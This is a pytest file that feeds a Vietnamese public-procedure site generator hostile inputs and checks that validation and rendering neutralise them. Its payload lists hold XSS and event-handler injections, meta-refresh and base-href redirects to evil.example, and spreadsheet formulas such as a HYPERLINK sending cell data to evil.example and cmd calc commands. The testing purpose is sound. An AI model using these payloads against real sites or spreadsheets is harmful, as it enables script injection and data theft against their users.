"""A catalogue written by an attacker: every text field and every URL field of procedure
files and of the communes file holds, in turn, each payload of the audit and of the
usual XSS lists. It must either be refused by validation with a message naming the
field, or build into a site where every page, loaded in Chromium, runs nothing, shows
the text as written, carries no raw payload, and whose CSV runs nothing in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from datetime import date
from functools import partial
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from generator.release import build

from generator import urls
from generator.catalogue.load import CatalogueError, load_catalogue
from generator.site.offline import write_offline_index
from tests.browser import PHONE, chromium
from tests.conftest import FIXTURE_PROCEDURES

ROOT = Path(__file__).parent.parent
BASE = "https://niemyet.example.vn/"

# The audit's payloads, then the usual ones: script and event-handler injection, markup
# and attribute lists, template syntax, entity tricks, spreadsheet formulas.
TEXTS = [
    "x </title><script>alert(1)</script>",
    'X"><script>alert("D2")</script>',
    "https://dichvucong.gov.vn/x>){:onclick=alert(3)}",
    '!!! warning "Bị chèn vào"',
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<img src=x onerror=alert(10)>",
    "<svg onload=alert(11)>",
    "'\"><svg/onload=alert(12)>",
    "javascript:alert(13)",
    "[bấm vào](javascript:alert(14))",
    '<a href="javascript:alert(15)">liên kết</a>',
    "</script><script>alert(16)</script>",
    "<!-- phần còn lại bị ẩn",
    "{{ config }} {% raw %} ${alert(18)}",
    '<iframe srcdoc="<script>alert(19)</script>"></iframe>',
    "&lt;script&gt;alert(20)&lt;/script&gt; &#60;b&#62;",
    '<div markdown="1">*nghiêng* <b>đậm</b></div>',
    "Tiêu đề giả {: onclick=alert(22) }",
    "# Tiêu đề giả\n1. danh sách giả\n> trích dẫn giả\n---",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '" autofocus onfocus=alert(27) x="',
    "' onmouseover='alert(28)' x='",
    "`code` **đậm** __gạch__ [^1] *[HTML]: viết tắt [TOC]",
    "<a href=x>không đóng",
]
# URLs validation accepts (only RFC 3986 characters, http(s), a named host) that still
# hold what a Markdown link or an HTML attribute could trip on.
URLS = [
    "https://dichvucong.gov.vn/x'onmouseover='alert(31)'",
    "https://dichvucong.gov.vn/a)(b)*c*_d_[e]",
    "https://dichvucong.gov.vn/p?q=&#60;script&#62;&x=1",
    "https://dichvucong.gov.vn/#!/x'),alert(33)//",
    "http://dichvucong.gov.vn:8080/%3Cscript%3Ealert(34)%3C/script%3E",
]
# URLs validation refuses, each in each URL field.
BAD_URLS = [
    "https://dichvucong.gov.vn/x>){:onclick=alert(1)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://dichvucong.gov.vn/"onclick="alert(1)',
    "https://dichvucong.gov.vn@evil.example/",
    "//evil.example/x",
    "https://dichvucong.gov.vn/ <script>",
    "https://dịchvụcông.vn/",
]
COMMUNES = ["03127", "03158", "03328"]


def procedure(i: int) -> dict:
    """Procedure i: text field k holds payload (i + k), so across the corpus every field
    holds every payload; URL fields likewise hold every URL."""
    text = lambda k: TEXTS[(i + k) % len(TEXTS)]  # noqa: E731
    url = lambda k: URLS[(i + k) % len(URLS)]  # noqa: E731
    commune = COMMUNES[i % len(COMMUNES)]
    data = {
        "code": f"9.{i:06d}", "name": text(0), "level": "province" if i == 1 else "commune",
        "field": f"Lĩnh vực {i} {text(1)}", "agency": text(2), "authority": text(3),
        "applicants": [text(4), text(5)], "steps": [text(6), text(7) + "\n" + text(8)],
        "channels": [{"mode": "in_person", "time_limit": text(9), "fee": text(10), "note": text(11)},
                     {"mode": "online", "time_limit": text(12)}],
        "documents": [{"name": text(13), "originals": 1, "copies": 2, "form_url": url(0), "group": text(14)},
                      {"name": text(15), "group": text(14)}],
        "results": [text(16)], "legal_basis": [{"number": text(17), "title": text(18)}],
        "conditions": text(19) + "\n" + text(20), "online_service": url(1), "keywords": [text(21)[:200]],
        "communes": [commune], "local": [{"commune": commune, "online_service": url(2), "agency_code": text(22)[:200]}],
        "sample": True,
        "source": {"title": text(23), "url": url(3), "decision": text(24)[:500], "document": text(25),
                   "checked": date(2026, 11, 1)},
    }
    if i % 5 == 2:
        data["withdrawn"] = {"date": date(2026, 11, 2), "reason": text(26)}
    if i % 5 == 3:
        data["replaced_by"] = f"9.{i - 1:06d}"  # its page names the successor, by its hostile name
    return data


def communes_file() -> str:
    """The fixture's communes, renamed: names, former units, offices and the province."""
    data = yaml.safe_load((FIXTURE_PROCEDURES / "_communes.yml").read_text(encoding="utf-8"))
    data["province"] = "Tỉnh " + TEXTS[0]
    for n, commune in enumerate(data["communes"]):
        commune["name"] = f"Xã {TEXTS[n * 3 + 1]}"
        commune["former"] = [{"name": TEXTS[(n * 7 + k) % len(TEXTS)], "district": TEXTS[(n + k + 3) % len(TEXTS)]}
                             for k in range(4)]
        commune["office"] = {"address": TEXTS[n + 9], "hours": TEXTS[n + 12], "phone": TEXTS[n + 15]}
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def write_corpus(folder: Path, extra: dict | None = None, count: int = len(TEXTS)) -> Path:
    """The corpus as procedure files: `count` procedures, the first one with `extra`."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "_communes.yml").write_text(communes_file(), encoding="utf-8")
    for i in range(count):
        data = procedure(i)
        if i == 0 and extra:
            data.update(extra)
        (folder / f"{data['code']}.yml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False),
                                                    encoding="utf-8")
    return folder


class Page(HTMLParser):
    """What a browser would build from one page: elements, attributes, scripts."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.scripts: list[tuple[dict, str]] = []
        self._script: dict | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag == "script":
            self._script = dict(attrs)
            self.scripts.append((self._script, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    folder = write_corpus(tmp_path_factory.mktemp("hostile") / "procedures")
    return load_catalogue(folder)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, corpus):
    out = tmp_path_factory.mktemp("hostile-site") / "site"
    build.build_site(corpus, ROOT, out, BASE, workers=2,
                     steps=(lambda cat, release, _base: write_offline_index(cat, release),))
    return out


def test_validation_accepts_the_hostile_text_as_text(corpus):
    assert len(corpus.procedures) == len(TEXTS)
    assert corpus.procedure("9.000000").name == TEXTS[0]
    assert corpus.commune("03127").name == "Xã " + TEXTS[1]


@pytest.mark.parametrize("field", ["online_service", "documents", "local", "source"])
def test_validation_refuses_each_hostile_url_in_each_url_field(tmp_path, field):
    for n, bad in enumerate(BAD_URLS):
        base = procedure(0)
        extra = {"online_service": bad, "documents": [{"name": "x", "form_url": bad}],
                 "local": [{"commune": "03127", "online_service": bad}],
                 "source": {**base["source"], "url": bad}}
        folder = write_corpus(tmp_path / f"{field}-{n}", {field: extra[field]}, count=1)
        with pytest.raises(CatalogueError) as info:
            load_catalogue(folder)
        messages = [p.message for p in info.value.problems]
        assert len(messages) == 1 and "cần URL http(s)" in messages[0], (bad, messages)


def test_no_page_holds_anything_executable_or_any_raw_payload(hostile_site, corpus):
    release = hostile_site.resolve()
    pages = sorted(release.rglob("*.html"))
    assert len(pages) > 2 * len(TEXTS)
    raw = [t for t in TEXTS if "<" in t or ">" in t]
    for page in pages:
        html = page.read_text(encoding="utf-8")
        where = str(page.relative_to(release))
        assert [t for t in raw if t in html] == [], where
        parsed = Page(html)
        handlers = [(tag, name) for tag, attrs in parsed.elements for name in attrs if name.startswith("on")]
        assert handlers == [], where
        assert not {"iframe", "img", "base", "style", "object", "embed"} & {t for t, _ in parsed.elements}, where
        assert not [a for t, a in parsed.elements if t == "meta" and "http-equiv" in a], where
        targets = [a.get("href") or a.get("src") or "" for _, a in parsed.elements]
        assert [u for u in targets if re.match(r"\s*(javascript|data|vbscript):", u, re.I)] == [], where
        for attrs, text in parsed.scripts:
            if attrs.get("type") == "application/ld+json":
                json.loads(text)  # data, whole: no payload closed the script element
            else:
                assert "alert(" not in text and "evil.example" not in text, where


def test_json_ld_carries_the_text_exactly(hostile_site, corpus):
    for proc in corpus.procedures:
        for commune in [c for c in COMMUNES if proc.applies_to(c) and proc.level == "commune"]:
            html = (hostile_site / urls.procedure_path(commune, proc.code).strip("/") / "index.html").read_text()
            (block,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
            data = json.loads(block)
            assert data["name"] == proc.name and data["serviceType"] == proc.field
            assert data["areaServed"]["name"] == corpus.commune(commune).name


def test_the_csv_runs_nothing_in_a_spreadsheet(hostile_site, corpus):
    text = (hostile_site / "du-lieu" / "thu-tuc.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(corpus.procedures)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") or c.lstrip()[:1] in ("=", "+", "-", "@")] == []
    assert "'" + TEXTS[4] in cells  # kept, as text


@pytest.fixture(scope="module")
def served(hostile_site):
    handler = partial(SimpleHTTPRequestHandler, directory=str(hostile_site.resolve()))
    handler.log_message = lambda *a: None
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def _look_at(page, url: str, proc) -> tuple | None:
    """Load `url`; None if it stayed there and (on a procedure's province-wide page) shows
    the name as its only heading and title, and the online link (the button's) with its
    href and class only."""
    page.goto(url, wait_until="load")
    if page.url != url:  # a meta refresh or a script navigated away
        return ("navigated", page.url)
    if proc is None:
        return None
    name = " ".join(proc.name.split())
    links = page.get_by_role("link", name="Nộp trực tuyến: mở dịch vụ công").evaluate_all(
        "found => found.map(a => [a.getAttribute('href'), a.getAttributeNames().sort()])")
    shown = ([" ".join(h.split()) for h in page.locator("h1").all_inner_texts()], page.title()[:len(name)], links)
    return None if shown == ([name], name, [[proc.online_service, ["class", "href"]]]) else shown


def test_every_page_in_chromium_runs_nothing_and_shows_the_text_as_written(hostile_site, corpus, served):
    from playwright.sync_api import Error as PlaywrightError

    release = hostile_site.resolve()
    paths = sorted("/" + str(p.relative_to(release).parent).strip(".").strip("/") for p in release.rglob("index.html"))
    national = {urls.national_path(proc.code): proc for proc in corpus.procedures}
    dialogs, errors, left, misshown = [], [], [], []
    with chromium() as browser:
        context = browser.new_context(viewport=PHONE)
        context.route(re.compile(r"^(?!http://127\.0\.0\.1).*"), lambda route: (left.append(route.request.url),
                                                                                route.abort()))
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append((page.url, d.message)), d.dismiss()))
        page.on("pageerror", lambda exc: errors.append((page.url, str(exc))))
        for path in paths:
            path = (path.rstrip("/") + "/").replace("//", "/")
            try:
                shown = _look_at(page, served + path, national.get(path))
            except PlaywrightError as exc:  # the page navigated away while loaded or read
                shown = ("navigated", str(exc).splitlines()[0])
            if shown is not None:
                misshown.append((path, shown))
        page.goto(f"{served}/03127/")
        page.locator("#niemyet-search-q").fill("alert")  # the API is not there: offline search lists names
        hits = page.locator("#niemyet-search-list li")
        hits.first.wait_for(timeout=10_000)
        shown = " ".join(hits.all_inner_texts())
        assert "<script>alert(" in shown or "onerror=alert(" in shown  # as text
        browser.close()
    assert (dialogs, errors, left, misshown) == ([], [], [], [])
